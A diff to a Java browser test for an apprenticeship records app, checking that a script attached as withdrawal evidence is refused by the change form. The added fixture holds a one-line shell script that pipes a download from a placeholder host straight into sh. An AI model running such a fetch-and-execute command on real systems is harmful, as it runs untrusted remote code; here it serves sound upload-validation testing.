@@ -93,8 +93,12 @@ class ScreensBrowserTest {
         Api.Answer submitted = api.post("admin", r07 + "/submissions", Map.of("fileName", exported.fileName()));
         assertThat(submitted.status()).as(submitted.body().toString()).isEqualTo(201);
         String submissionId = submitted.text("/submissionId");
-        Path evidence = Files.writeString(files.resolve("withdrawal-email.txt"),
-                "From: learner@example.invalid\nI left the programme on 27 February.\n", StandardCharsets.UTF_8);
+        Path evidence = Files.writeString(files.resolve("withdrawal-email.eml"),
+                "From: learner@example.invalid\nTo: apprenticeships@example.invalid\nSubject: Leaving the programme\n"
+                        + "Date: Fri, 27 Feb 2026 17:02:00 +0000\n\nI left the programme on 27 February.\n",
+                StandardCharsets.UTF_8);
+        Path script = Files.writeString(files.resolve("withdrawal-note.txt"),
+                "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n", StandardCharsets.UTF_8);
 
         browser.open("/");
         assertThat(browser.path()).startsWith("/sign-in");
@@ -129,6 +133,13 @@ class ScreensBrowserTest {
         browser.type("#values-learnActEndDate", LAST_DAY.toString());
         browser.type("#reason", "Learner e-mailed to say they have left the programme");
         browser.waitForTextContaining("#rule-checks", "meets every rule");
+        browser.attach("#file", script);
+        browser.find("#change-form button[type=submit]").click();
+        assertThat(browser.waitFor(By.id("problem")).getText())
+                .as("a script attached as evidence is refused on the form, as the API refuses it")
+                .contains("must be a PDF, PNG, JPEG, text, e-mail or Office document").contains("Field: evidence");
+        assertThat(browser.find("#reason").getAttribute("value")).as("what was typed is kept")
+                .isEqualTo("Learner e-mailed to say they have left the programme");
         browser.attach("#file", evidence);
         browser.assertAccessible("raise a change");
         browser.screenshot("raise-change");
